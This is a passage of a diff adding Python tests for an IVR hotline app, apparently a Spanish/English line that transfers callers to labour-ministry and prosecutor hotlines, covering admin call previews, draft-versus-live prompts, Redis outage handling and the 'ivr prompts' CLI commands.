+    assert ("ruta", "ruta [es-US] Le comunico con la Fiscalía. No cuelgue.") in step2["lines"]
+
+    # None of those preview calls was counted.
+    place_call(app)  # (a real call is, still)
+    assert redis_client.xlen(store.EVENTS) > counted
+    after_real = redis_client.xlen(store.EVENTS)
+    ana.post("/admin/try", {"moves": "[]", "press": "0", "dial_result": "failed"})
+    ana.post("/admin/try", {"moves": "[]", "say": "me ofrecieron un trabajo falso"})
+    assert redis_client.xlen(store.EVENTS) == after_real
+
+
+def test_try_the_call_seconds_agree_with_the_budget_that_publishing_enforces(app, ana):
+    """The panel counts spoken seconds as the 30 s budget does (a key press stops the
+    question at the sentence that offers it), so it agrees with `ivr config check`."""
+    shown = try_page(ana.post("/admin/try", {"moves": "[]", "press": "2",
+                                             "dial_result": "completed"}).text)
+    checked = {path.label: path.seconds for path in spoken_paths(current_menu_of(app))}
+    assert shown["seconds"] == round(checked["es 2 -> labour"], 1), (
+        f"the panel says {shown['seconds']} s; the budget check says "
+        f"{checked['es 2 -> labour']:.1f} s for the same path")
+
+
+def current_menu_of(app):
+    with app.app_context():
+        return current_menu()
+
+
+def test_try_the_call_plays_the_draft_not_the_live_version(app, ana, other_process,
+                                                          redis_client, tmp_path,
+                                                          monkeypatch):
+    # The web process's environment names its spool (which the worker replays into the
+    # stream): a preview call must not leave anything there either.
+    spool = tmp_path / "web-spool"
+    monkeypatch.setenv("RUTA_SPOOL_DIR", str(spool))
+    draft = "Le paso con {hotline}. No cuelgue."
+    ana.edit("/admin/prompts", {"prompt:es:transfer": draft})
+    events = redis_client.xlen(store.EVENTS)
+    shown = try_page(ana.post("/admin/try", {"moves": "[]", "press": "2"}).text)
+    assert "against the draft" in shown["intro"]
+    assert ("ruta", "ruta [es-US] Le paso con la línea del Ministerio del Trabajo. "
+                    "No cuelgue.") in shown["lines"]
+    ana.post("/admin/try", {"moves": "[]", "press": "0", "dial_result": "failed"})
+    assert redis_client.xlen(store.EVENTS) == events
+    assert Spool(spool).size() == 0
+    # The live version is untouched: a caller still hears the shipped sentence.
+    heard = place_call(other_process, [Move("press", "2")]).heard()
+    assert "Le comunico con la línea del Ministerio del Trabajo. No cuelgue." in heard
+    assert "Le paso con" not in heard
+    # A broken draft cannot be tried: the panel lists why.
+    ana.edit("/admin/prompts", {"prompt:es:transfer": "Le paso con {hotlin}."})
+    tree = parse(ana.page("/admin/try"))
+    assert [li.text() for li in tree.one("ul", cls="problems").all("li")] == [
+        "prompts/es: prompt 'transfer' has unknown placeholder {hotlin}"]
+    assert not tree.all("section", cls="transcript")
+
+
+# --- 9. Redis unreachable: keep serving the last version loaded ------------------------------
+
+
+def test_when_redis_is_unreachable_a_process_keeps_serving_the_version_it_loaded(
+        app_config, tmp_path):
+    own = RedisServer(tmp_path / "own-redis").start()
+    try:
+        web = create_app({**app_config, "REDIS_URL": own.url})
+        assert greeting(web) == ES_GREETING
+        r = redis.Redis.from_url(own.url, decode_responses=True)
+        versions = ConfigVersions(r, web.extensions["ruta.shipped"])
+        published = "Línea Ruta. Versión antes del corte."
+        versions.save_draft({"prompts": {"es": {"greeting": published}}}, "ana")
+        assert versions.publish("ana", "before the outage") == 1
+        r.close()
+        assert hears_within(web, published) == published
+        own.stop()
+        # Calls keep coming for longer than the once-a-second check: every one of them
+        # still hears the published version, and is transferred as usual.
+        until = time.monotonic() + 1.6
+        while time.monotonic() < until:
+            call = place_call(web, [Move("press", "2")], ["completed"])
+            assert call.lines[0].text == published
+            assert call.dialed == ["120"]
+            assert call.hung_up_by == "ruta"
+    finally:
+        own.stop()
+
+
+# --- 10. the `ivr prompts` commands -------------------------------------------------------------
+
+
+def test_prompts_as_files_export_import_publish_history_rollback(
+        app, ana, other_process, redis_server, redis_client, tmp_path):
+    published = "Línea Ruta. Publicado desde la web."
+    ana.edit("/admin/prompts", {"prompt:es:greeting": published})
+    ana.publish("from the web")
+    folder = tmp_path / "prompts"
+
+    result = cli(redis_server, "prompts", "export", str(folder))
+    assert result.exit_code == 0, result.output
+    assert sorted(p.name for p in folder.iterdir()) == ["en.toml", "es.toml"]
+    es = tomllib.loads((folder / "es.toml").read_text(encoding="utf-8"))
+    en = tomllib.loads((folder / "en.toml").read_text(encoding="utf-8"))
+    assert es == {**SHIPPED.prompts["es"], "greeting": published}
+    assert en == SHIPPED.prompts["en"]
+
+    # Edit a file, import it: it is the draft (shown on /admin), not live.
+    from_file = "Línea Ruta. Revisado en GitHub."
+    text = (folder / "es.toml").read_text(encoding="utf-8")
+    text = text.replace(f"greeting = {json.dumps(published, ensure_ascii=False)}",
+                        f"greeting = {json.dumps(from_file, ensure_ascii=False)}")
+    (folder / "es.toml").write_text(text, encoding="utf-8")
+    result = cli(redis_server, "prompts", "import", str(folder))
+    assert result.exit_code == 0, result.output
+    assert "error" not in result.output
+    rows = [[td.text() for td in tr.all("td")] for tr in parse(ana.page("/admin")).all("tr")
+            if tr.all("td")]
+    assert rows == [["prompt es greeting", published, from_file]]
+    assert hears_within(other_process, published) == published
+
+    result = cli(redis_server, "prompts", "publish", "--note", "x")
+    assert result.exit_code == 0, result.output
+    assert result.output.strip() == "version 2 is live"
+    assert hears_within(other_process, from_file) == from_file
+
+    result = cli(redis_server, "prompts", "history")
+    assert result.exit_code == 0, result.output
+    lines = result.output.strip().splitlines()
+    assert re.fullmatch(r"\s*2 \(live\)\s+\S+ \S+\s+cli:ops-laura\s+x", lines[0]), lines
+    assert re.fullmatch(r"\s*1\s+\S+ \S+\s+ana\s+from the web", lines[1]), lines
+
+    result = cli(redis_server, "prompts", "rollback", "0", "--note", "y")
+    assert result.exit_code == 0, result.output
+    assert result.output.strip() == "version 3 is live (a copy of version 0)"
+    assert hears_within(other_process, ES_GREETING) == ES_GREETING
+
+    # A broken draft: the import says so, the publish refuses it and exits non-zero.
+    text = (folder / "en.toml").read_text(encoding="utf-8")
+    (folder / "en.toml").write_text(
+        text.replace(f"greeting = {json.dumps(EN_GREETING)}", 'greeting = ""'),
+        encoding="utf-8")
+    result = cli(redis_server, "prompts", "import", str(folder))
+    assert "error: prompts/en: prompt 'greeting' is empty" in result.output
+    result = cli(redis_server, "prompts", "publish", "--note", "z")
+    assert result.exit_code != 0
+    assert "error: prompts/en: prompt 'greeting' is empty" in result.output
+    assert "not published" in result.output
+    assert live_version(redis_client) == 3
+    assert greeting(other_process) == ES_GREETING
